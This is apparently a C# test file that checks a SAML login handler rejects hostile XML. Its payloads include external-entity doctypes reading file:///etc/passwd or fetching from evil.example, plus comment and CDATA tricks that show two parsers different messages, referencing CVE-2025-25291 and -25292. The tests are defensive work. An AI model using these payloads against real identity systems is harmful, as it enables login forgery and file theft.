using System.Xml.Linq;
using ContextHandler.Testing.Attacks;
using ContextHandler.Testing.Federation;

namespace ContextHandler.FunctionalTests.Attacks;

/// <summary>Document types, and quotes and comments arranged so that one parser sees the genuine message and another the forged one.</summary>
public class DoctypeTests(AttackStage stage) : IClassFixture<AttackStage>
{
    private static readonly string[] Doctypes =
    [
        "<!DOCTYPE r>", "<!DOCTYPE samlp:Response>", "<!DOCTYPE r []>", "<!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\">", "<!DOCTYPE r PUBLIC \"-//E//R\" \"http://evil.example/r.dtd\">", "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE r [<!ENTITY e \"x\">]>", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>", "<!DOCTYPE r [<!ATTLIST samlp:Status foo ID #IMPLIED>]>",
        "<!DOCTYPE r [<!ATTLIST saml:Assertion ID CDATA #FIXED \"_x\">]>", "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\">]>", "<!doctype r>", "<!DOCTYPE>", "<!DOCTYPE r [", "<!DOCTYPE r \"><!--'>", "<!DOCTYPE r '><!--\">", "<!DOCTYPE r SYSTEM \"'><!--\">",
        "<!DOCTYPE r [<!ENTITY e \"]><!--'\">]>", "<!DOCTYPE r [<!-- ]> -->]>", "<!DOCTYPE r [<?p ]> ?>]>",
    ];

    public static MatrixTheoryData<Form, string> FormsAndDoctypes => new(Forms.All, Doctypes);

    [Theory]
    [MemberData(nameof(FormsAndDoctypes))]
    public async Task B12_any_document_type(Form form, string doctype)
    {
        using var login = await stage.BeginAsync();
        var genuine = AttackedLogin.Text(login.Genuine(form));

        await login.RefusedAsync(doctype + genuine, "XmlMalformed");
        await login.RefusedAsync("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype + "\n" + genuine, "XmlMalformed");
        await login.RefusedAsync("\uFEFF" + doctype + genuine, "XmlMalformed");
        await login.RefusedAsync(Edited.Replace(genuine, "<samlp:Status>", doctype + "<samlp:Status>"), "XmlMalformed");
        await login.RefusedAsync(genuine + doctype, "XmlMalformed");
        await login.AcceptedAsync(form);
    }

    // CVE-2025-25291, -25292: a document type whose quotes one parser takes for the beginning of a comment. The other goes on reading.
    [Theory]
    [EachForm]
    public async Task B12_a_document_type_behind_which_one_parser_sees_a_comment(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var (forged, real) = (Text(Forged.Response(login, genuine)), AttackedLogin.Text(genuine));

        await login.RefusedAsync($"<!DOCTYPE r \"><!--'>{real}<!-- '> -->{forged}<!-- -->", "XmlMalformed");
        await login.RefusedAsync($"<!DOCTYPE r [<!ENTITY e '\"><!--'>]>{forged}<!-- -->{real}", "XmlMalformed");
        await login.RefusedAsync($"<!DOCTYPE r SYSTEM '\"]><!--'>{forged}<!--\">{real}<!-- -->", "XmlMalformed");
        await login.AcceptedAsync(genuine);
    }

    // The same with CDATA: what is markup to one parser is text to the other.
    [Theory]
    [EachForm]
    public async Task B12_a_CDATA_section_in_which_one_parser_sees_markup(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var (forged, real) = (Text(Forged.Assertion(login, genuine)), AttackedLogin.Text(genuine));
        string Before(string put) => Edited.Replace(real, "</samlp:Status>", "</samlp:Status>" + put);

        await login.RefusedAsync(Before($"<samlp:Extensions><![CDATA[<!-- ]]>{forged}<![CDATA[ --> ]]></samlp:Extensions>"), "XmlForbiddenNode");
        await login.RefusedAsync(Before($"<samlp:Extensions><![CDATA[{forged}]]></samlp:Extensions>"), "XmlForbiddenNode");
        await login.RefusedAsync(Before($"<!-- ]]> --><![CDATA[<!--]]>{forged}"), "XmlForbiddenNode");
        await login.RefusedAsync(Before($"<x a=\"<![CDATA[\"/>{forged}<x a=\"]]>\"/>"), "XmlMalformed");
        await login.RefusedAsync(Before($"<x a=\"<!--\"/>{forged}<x a=\"-->\"/>"), "XmlMalformed");
        await login.RefusedAsync(Before($"<x>]]>{forged}</x>"), "XmlMalformed");
        await login.AcceptedAsync(genuine);
    }

    [Theory]
    [InlineData("&e;")]
    [InlineData("&nbsp;")]
    [InlineData("&AMP;")]
    [InlineData("&amp")]
    [InlineData("&")]
    [InlineData("%p;")]
    public async Task B12_an_entity_that_nothing_declares(string reference)
    {
        foreach (var form in (Form[])[Form.SignedAssertion, Form.SignedResponse, Form.BothSigned])
        {
            using var login = await stage.BeginAsync();
            var genuine = login.Genuine(form);

            await login.RefusedAsync(Edited.InText(AttackedLogin.Text(genuine), "NameID", 0, reference), reference == "%p;" ? "SignatureInvalid" : "XmlMalformed");
            await login.AcceptedAsync(genuine);
        }
    }

    private static string Text(XElement element) => element.ToString(SaveOptions.DisableFormatting);
}
